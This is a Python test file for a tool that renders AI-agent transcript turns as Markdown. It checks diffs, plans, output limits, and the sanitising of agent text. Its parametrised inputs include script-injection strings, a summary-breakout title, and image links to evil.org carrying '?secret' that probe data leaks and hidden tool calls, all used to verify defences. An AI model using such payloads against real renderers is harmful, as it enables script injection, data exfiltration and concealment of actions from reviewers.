"""A turn as Markdown and plain text."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from nbconvert.filters.markdown import markdown2html

from acp_jupyter.transcript.escaping import agent_markdown, printable_block
from acp_jupyter.transcript.model.items import (
    AgentMessage,
    ErrorItem,
    Item,
    Plan,
    PlanEntry,
    Thought,
    TurnEnd,
    UserMessage,
)
from acp_jupyter.transcript.model.session_state import AgentInfo, SessionState, TurnState
from acp_jupyter.transcript.model.tool_items import Diff, Permission, ToolCall
from acp_jupyter.transcript.output.diff_text import unified_diff
from acp_jupyter.transcript.output.markdown import session_markdown, turn_markdown, turn_plain_text

TURN = TurnState(turn_id="t", session_id="s", status="done", stop_reason="end_turn")


def edit(**changes: object) -> ToolCall:
    call = ToolCall(
        id="3",
        tool_call_id="c1",
        tool_kind="edit",
        title="Edit clean.py",
        description="clean.py",
        status="completed",
        diffs=(Diff(path="clean.py", old_text="a\nb\n", new_text="a\nc\n", added=1, removed=1),),
        permission=Permission(
            request_id="r", state="allowed", title="Demo wants to edit", outcome="Allowed once"
        ),
    )
    return call.model_copy(update=changes)


ITEMS: tuple[Item, ...] = (
    UserMessage(id="0", text="Fix it"),
    Thought(id="1", text="a private thought"),
    Plan(
        id="2",
        entries=(
            PlanEntry(content="Read", status="completed"),
            PlanEntry(content="Write", status="in_progress"),
            PlanEntry(content="Test"),
        ),
    ),
    edit(),
    AgentMessage(id="4", text="Done, see `clean.py`."),
    TurnEnd(id="5", stop_reason="end_turn"),
)


def test_a_turn_reads_in_order_with_its_tool_calls_folded() -> None:
    assert turn_markdown(TURN, ITEMS, footer=("Demo 1.0", "policy ask")) == (
        """\
**Plan**

- [x] Read
- [ ] Write *(in progress)*
- [ ] Test

<details open>
<summary><b>Edit clean.py</b> · +1 −1 · Allowed once</summary>

<samp>

```diff
--- a/clean.py
+++ b/clean.py
@@ -1,2 +1,2 @@
 a
-b
+c
```

</samp>

</details>

Done, see `clean.py`.

<sub>Demo 1.0 · policy ask</sub>"""
    )


def test_thoughts_are_left_out_unless_asked_for() -> None:
    assert "private thought" not in turn_markdown(TURN, ITEMS)
    assert "private thought" in turn_markdown(TURN, ITEMS, thoughts=True)


def test_what_a_tool_read_is_left_out_and_other_output_is_capped() -> None:
    read = ToolCall(id="1", tool_call_id="c", tool_kind="read", title="Read a", output="secret")
    run = ToolCall(
        id="2",
        tool_call_id="d",
        tool_kind="execute",
        title="Run",
        command="make",
        output="start" + "x" * 9_000 + "end",
        exit_code=2,
        status="failed",
    )
    text = turn_markdown(TURN, (read, run))
    assert "secret" not in text
    assert "start" in text
    assert "end" in text
    assert len(text) < 3_000
    assert "exit code 2 · failed" in text


def test_an_error_and_a_stop_are_told_in_words() -> None:
    failed = TURN.model_copy(update={"stop_reason": "error", "words": "It died."})
    items = (
        ErrorItem(id="1", message="It died.", detail="Traceback"),
        TurnEnd(id="2", stop_reason="error", words="It died."),
    )
    text = turn_markdown(failed, items)
    assert text.count("It died.") == 1
    assert "Traceback" in text
    stopped = (TurnEnd(id="2", stop_reason="cancelled", words="Stopped by you."),)
    assert turn_markdown(TURN, stopped) == "*Stopped by you.*"


def test_a_fence_is_longer_than_what_is_inside() -> None:
    assert printable_block("a ```` b").startswith("`````\n")


@pytest.mark.parametrize(
    "text",
    [
        "```python\nprint(1)",
        "  ```\nx",
        "- one\n  ```\n  x",
        "~~~\n```\n",
        "<!-- hidden",
        "<details><summary>Allowed</summary>",
        "<script>alert(1)",
        "text <b\nattribute",
        "`unclosed",
        "> ```\n> x",
    ],
)
def test_no_answer_swallows_what_follows_it(text: str) -> None:
    """An agent can't hide its tool calls from a reader of the saved notebook."""
    page = markdown2html(turn_markdown(TURN, (AgentMessage(id="1", text=text), edit())))
    assert page.count("<details open>") == 1
    assert page.count("<summary>") == 1
    assert "<script" not in page
    assert re.search(r"<summary><b>Edit clean.py</b>", page)
    assert "highlight" in page.split("<summary>")[1]  # the diff is rendered as code


def test_code_keeps_its_signs_and_images_are_not_fetched() -> None:
    text = "`a<b>` <https://x.org>\n\n```html\n<b>![x](http://e)</b>\n```\n![x](http://evil/p.png)"
    assert agent_markdown(text) == text.replace("\n![x]", "\n\n[x]")


PIECES = (
    *("```", "~~~", "````", "    ```", "  ```", "\t```", "> ", "- ", "1. ", "   ", "\n", "\n\n"),
    *("`", "``", "![x](https://evil.org/a.png)", "![x][r]", "[r]: https://evil.org/b.png", "\\"),
    *("<img src=https://evil.org/c>", "<!--", "-->", "<script>", "x", "!", "[", "]", "a|b\n-|-\n"),
    *("](https://evil.org/d.png)", "<https://evil.org>", "$$", "$", "\\[", "\\begin{x}", "\u2028"),
)
FETCHED = (
    "!![x](https://evil.org/?secret)",
    "x" * 20_001 + "![x](https://evil.org/?secret)",
    "> ```<script>`",
    "text\n    ```\n    <script>",
    "- a\n  ```\nfoo\n<script>",
    "\\`<script>`",
    "1. ```\n<!--",
    "$$\n```\n$$\n<script>\n",
    "https://evil.org/```<img src=x>```",
    "[^1]:   \n```\n<img src=x>```",
    "a|b\n-|-\n~~~<img src=x>|``````\n<script>",
)


_OWN_TAGS = {"<span>", "</span>"}


def check_nothing_is_fetched(text: str) -> None:
    """Neither as the standard reads it, nor as nbconvert does."""
    drawn = agent_markdown(text)
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    for block in parser.parse(drawn):
        # A dollar sign that begins no formula stands in tags of ours.
        parts = [each for each in block.children or () if each.content not in _OWN_TAGS]
        kinds = {block.type, *(each.type for each in parts)}
        assert not kinds & {"image", "html_block", "html_inline"}, drawn
    page = markdown2html(drawn)
    assert "<script" not in page
    assert "<img" not in page


@pytest.mark.parametrize("text", FETCHED)
def test_nothing_is_fetched_or_run_by_looking_at_an_answer(text: str) -> None:
    check_nothing_is_fetched(text)


@given(st.lists(st.sampled_from(PIECES), max_size=9))
def test_nothing_is_fetched_or_run_by_looking_at_any_answer(pieces: list[str]) -> None:
    check_nothing_is_fetched("".join(pieces))


def test_a_title_can_not_break_out_of_its_line() -> None:
    title = "Edit\n\n</summary><script>alert(1)</script>"
    for call in (edit(title=title), edit(title=title, diffs=())):
        page = markdown2html(turn_markdown(TURN, (call,)))
        assert "<script" not in page
        assert page.count("</summary>") == len(call.diffs)


def test_a_call_of_which_nothing_is_shown_is_a_line() -> None:
    call = edit(title="Read clean.py", tool_kind="read", diffs=(), output="secret")
    shown = turn_markdown(TURN, (call,))
    assert "<b>Read clean.py</b>" in shown
    assert "<details" not in shown
    assert "secret" not in shown


def test_plain_text_has_at_most_20_lines_and_says_how_it_ended() -> None:
    answer = AgentMessage(id="1", text="\n".join(f"line {n}" for n in range(100)))
    calls = [edit(id=str(n)) for n in range(50)]
    turn = TURN.model_copy(update={"words": "Stopped by you.", "stop_reason": "cancelled"})
    lines = turn_plain_text(turn, (answer, *calls), footer=("Demo",)).splitlines()
    assert len(lines) == 20
    assert lines[0] == "line 0"
    assert lines[-2:] == ["Stopped by you.", "Demo"]
    assert any("Edit clean.py" in line for line in lines)


def test_a_diff_deep_in_a_long_file_has_its_line_numbers() -> None:
    old = [f"line {n}\n" for n in range(10_000)]
    new = old.copy()
    new[7_000] = "changed\n"
    text = unified_diff(Diff(path="a.py", old_text="".join(old), new_text="".join(new)))
    assert "@@ -6998,7 +6998,7 @@" in text
    assert "-line 7000\n+changed" in text
    assert text.count("\n") == 10


def test_a_diff_without_anything_in_common_is_cut() -> None:
    old, new = "a\n" * 9_000, "b\n" * 9_000
    text = unified_diff(Diff(path="a.py", old_text=old, new_text=new))
    assert text.count("\n") == 400
    assert text.endswith("more lines")


def test_an_exported_session_shows_each_prompt_above_its_turn() -> None:
    session = SessionState(
        session_id="s",
        title="Cleaning",
        agent="demo",
        agent_info=AgentInfo(id="demo", name="Demo"),
        cwd="/w",
        folder="/w",
    )
    turn = TURN.model_copy(update={"prompt": "Fix\nit"})
    text = session_markdown(session, [turn], {"t": ITEMS})
    assert text.startswith("# Cleaning\n\n> Fix\n> it\n\n**Plan**")
